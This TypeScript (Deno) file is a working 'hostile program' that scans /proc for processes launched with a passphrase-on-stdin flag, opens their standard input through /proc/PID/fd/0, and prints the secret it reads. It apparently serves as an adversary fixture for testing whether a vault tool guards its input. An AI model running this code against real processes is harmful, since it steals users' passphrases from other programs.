/**
 * A hostile program of the same user: looks for processes that are told to read a password from standard input, opens that input
 * as /proc/PID/fd/0 and prints what it reads there. Says `ready` first; ends when its own input does.
 */
const WANTED = "--vault-passphrase-stdin";
const open = new Set<string>();
const refused = new Set<string>();
const decoder = new TextDecoder("latin1");

async function rob(pid: string): Promise<void> {
  using input = Deno.openSync(`/proc/${pid}/fd/0`, { read: true });
  open.add(pid);
  const bytes = new Uint8Array(4096);
  const count = await input.read(bytes);
  console.log(JSON.stringify({ pid: Number(pid), got: decoder.decode(bytes.subarray(0, count ?? 0)) }));
}

/** Tries again and again: a process that is still the one that changes the user, or has hidden itself, refuses. */
function look(): void {
  for (const { name } of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(name) || name === String(Deno.pid) || open.has(name)) continue;
    try {
      if (!Deno.readTextFileSync(`/proc/${name}/cmdline`).split("\0").includes(WANTED)) continue;
    } catch {
      continue; // It has ended.
    }
    rob(name).catch((error) => {
      if (refused.has(name)) return;
      refused.add(name);
      console.log(JSON.stringify({ pid: Number(name), refused: error.name }));
    });
  }
  setTimeout(look, 0);
}

console.log("ready");
look();
await Deno.stdin.read(new Uint8Array(1));
Deno.exit(0);
